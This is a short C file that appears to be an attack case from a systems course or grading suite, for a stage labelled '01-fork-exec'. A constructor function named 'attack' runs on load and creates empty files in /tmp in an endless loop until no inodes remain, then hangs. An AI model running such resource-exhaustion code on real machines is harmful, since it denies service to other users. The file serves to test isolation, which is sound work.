/*
 * Makes empty files until there is no room for one.
 *
 * Stage: 01-fork-exec
 * Base: solution
 * Score: 0
 */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
	char path[64];

	for (int i = 0;; i++) {
		snprintf(path, sizeof(path), "/tmp/inode-%d-%d", (int)getpid(),
			 i);
		if (mknod(path, 0100600, 0) < 0)
			pause();
	}
}
